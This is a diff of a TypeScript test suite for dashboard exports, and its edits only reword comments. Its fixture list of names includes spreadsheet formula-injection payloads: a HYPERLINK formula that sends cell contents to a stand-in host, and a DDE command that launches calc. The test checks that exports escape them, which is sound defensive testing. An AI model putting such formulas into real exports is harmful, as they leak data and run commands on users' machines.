@@ -15,7 +15,7 @@ const DASHBOARDS = DASHBOARD_NAMES
 const tablesOf = (dashboard: Dashboard) => Object.keys(DEFINITIONS[dashboard].data.properties)
 const mainTableOf = (dashboard: Dashboard) => DEFINITIONS[dashboard].mainTable
 
-/** Names that a producer may use. */
+/** Valid names that need escaping in a file. */
 const NAMES = [
   '=HYPERLINK("http://x.test/?"&A1,"Click")',
   "=cmd|' /C calc'!A0",
@@ -35,7 +35,7 @@ const NAMES = [
 
 type Value = string | number
 
-/** A table as the JSON answer has it. */
+/** A table in the JSON response. */
 function tableOf(data: unknown): Value[][] {
   const part = data as Record<string, Value>[] | Record<string, Value | Record<string, Value>>
   if (Array.isArray(part)) return [Object.keys(part[0] ?? {}), ...part.map((item) => Object.values(item))]
@@ -47,7 +47,7 @@ function tableOf(data: unknown): Value[][] {
   ]
 }
 
-/** Fields as the values they were: a number wherever the JSON has one, and then in the same digits. */
+/** Converts fields back to values: a number wherever the JSON has one, with the same digits. */
 function valuesOf(records: string[][], like: Value[][]): Value[][] {
   return records.map((record, y) =>
     record.map((field, x) => {
@@ -57,7 +57,7 @@ function valuesOf(records: string[][], like: Value[][]): Value[][] {
   )
 }
 
-/** A day or an instant in UTC as a spreadsheet stores it: days since 30 December 1899. */
+/** A day or an instant in UTC as a serial number of spreadsheets: days since 30 December 1899. */
 function dated(value: Value): Value {
   const isDate = typeof value === 'string' && /^\d{4}-\d\d-\d\d(T[\d:.]+Z)?$/.test(value)
   return isDate ? (Date.parse(value) - Date.UTC(1899, 11, 30)) / 86_400_000 : value
@@ -102,7 +102,7 @@ describe('exports', () => {
 
   const ask = (path: string, claims: Claims = {}) => askForFile(app, path, {}, claims)
   const json = async (path: string) => JSON.parse((await ask(path)).text) as { data: Record<string, unknown> }
-  /** More than the names there are. */
+  /** More than the number of names. */
   const LIMIT = 'limit=100'
   const questionOf = (dashboard: Dashboard) => (mainTableOf(dashboard).startsWith('top') ? LIMIT : '')
 
@@ -146,7 +146,7 @@ describe('exports', () => {
     const asked = '/campaigns?timezone=Europe/Berlin&startDate=2026-10-24&endDate=2026-10-26&format=xlsx'
     const sheets = readWorkbook((await ask(asked)).bytes)
     const { rows, formats } = sheets.find(({ name }) => name === 'timeSeries')!
-    // 24 October 2026 is day 46,319; the clocks go back in the night to the 26th.
+    // 24 October 2026 is day 46,319; the clocks are set back in the night to the 26th.
     expect(rows.slice(1).map(([day]) => day)).toEqual([46_319, 46_320, 46_321])
     expect(formats[0]).toBe('yyyy-mm-dd')
     const about = sheets.at(-1)!
